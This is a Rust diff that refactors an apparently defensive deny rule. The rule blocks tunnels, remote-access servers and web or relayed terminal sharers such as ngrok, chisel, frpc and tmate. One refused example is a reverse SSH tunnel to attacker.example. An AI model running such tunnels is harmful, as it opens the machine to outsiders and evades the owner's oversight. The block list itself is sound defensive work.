@@ -189,7 +189,7 @@ fn tunnel(c: &Command, _: &Scope) -> Option<String> {
 
 /// Web terminals (`ttyd`, `gotty`, `wetty`, `shellinaboxd`) and relayed terminal sessions
 /// (`tmate`, `upterm`, `sshx`, `teleconsole`): what `tunnel` reads as sharing a terminal.
-const TERMINAL_SHARERS: &[&str] = &[
+const TERMINAL_SHARERS: [&str; 8] = [
     "ttyd",
     "gotty",
     "wetty",
@@ -199,6 +199,50 @@ const TERMINAL_SHARERS: &[&str] = &[
     "teleconsole",
     "upterm",
 ];
+
+/// Tunnels, relays and remote-access servers: what `tunnel` reads as opening this machine.
+const TUNNELS: [&str; 21] = [
+    "ssh",
+    "autossh",
+    "ngrok",
+    "cloudflared",
+    "bore",
+    "lt",
+    "localtunnel",
+    "tailscale",
+    "chisel",
+    "frpc",
+    "pagekite",
+    "pagekite.py",
+    "loclx",
+    "serveo",
+    "zrok",
+    "expose",
+    "code",
+    "code-insiders",
+    "code-tunnel",
+    "sshd",
+    "dropbear",
+];
+
+/// The programs `tunnel` is run for: the tunnels and the terminal sharers, each named once.
+const TUNNEL_PROGRAMS: [&str; TUNNELS.len() + TERMINAL_SHARERS.len()] =
+    concat(TUNNELS, TERMINAL_SHARERS);
+
+/// `a` then `b`, in a constant.
+const fn concat<const A: usize, const B: usize, const C: usize>(
+    a: [&'static str; A],
+    b: [&'static str; B],
+) -> [&'static str; C] {
+    assert!(A + B == C);
+    let mut out = [""; C];
+    let mut i = 0;
+    while i < C {
+        out[i] = if i < A { a[i] } else { b[i - A] };
+        i += 1;
+    }
+    out
+}
 
 /// Tools that scan, brute-force, exploit or flood other hosts, each with what it does to its
 /// target (for the reason).
@@ -560,37 +604,7 @@ pub static RULES: &[Rule] = &[
         pack: PACK,
         effect: Deny,
         reason: "A tunnel or a shared terminal makes this machine reachable from the internet",
-        programs: &[
-            "ssh",
-            "autossh",
-            "ngrok",
-            "cloudflared",
-            "bore",
-            "lt",
-            "localtunnel",
-            "tailscale",
-            "chisel",
-            "frpc",
-            "pagekite",
-            "pagekite.py",
-            "loclx",
-            "serveo",
-            "zrok",
-            "expose",
-            "code",
-            "code-insiders",
-            "code-tunnel",
-            "sshd",
-            "dropbear",
-            "ttyd",
-            "gotty",
-            "wetty",
-            "shellinaboxd",
-            "tmate",
-            "sshx",
-            "teleconsole",
-            "upterm",
-        ],
+        programs: &TUNNEL_PROGRAMS,
         check: Check::Command(tunnel),
         refused: &[
             Example::bash("ssh -R 8080:localhost:22 user@attacker.example"),
